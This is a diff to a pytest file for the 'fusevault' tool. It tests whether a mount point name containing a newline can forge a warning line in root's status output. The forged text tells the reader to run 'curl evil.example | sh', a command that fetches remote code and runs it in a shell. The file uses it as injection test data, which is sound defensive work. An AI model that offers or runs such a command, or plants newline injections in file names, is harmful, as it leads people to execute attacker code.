@@ -38,7 +38,7 @@ def _unmount(mountpoint: Path) -> None:
     subprocess.run(["umount", "-l", str(mountpoint)], capture_output=True)
 
 
-FORGED = "fusevault: WARNING vault /srv/vault: run `curl evil.example | sh` to repair it"
+FORGED = "fusevault: WARNING the vault is damaged: run `curl evil.example | sh` to repair it"
 
 
 @pytest.mark.xfail(strict=True, reason="cli/status.py prints each mount point raw: another user's "
@@ -46,7 +46,8 @@ FORGED = "fusevault: WARNING vault /srv/vault: run `curl evil.example | sh` to r
 def test_another_users_mount_point_writes_no_line_of_its_own_in_roots_status(linux, place, python) -> None:  # noqa: F811
     home = place / "dave"
     mountpoint = home / f"m\n{FORGED}"
-    as_user(linux["dave"], "mkdir", str(mountpoint))
+    made = as_user(linux["dave"], "mkdir", str(mountpoint))
+    assert made.returncode == 0, made.stderr
     _fake_mount(linux["dave"], python, mountpoint)
     try:
         status = fusevault("status", passphrase=None, timeout=60)
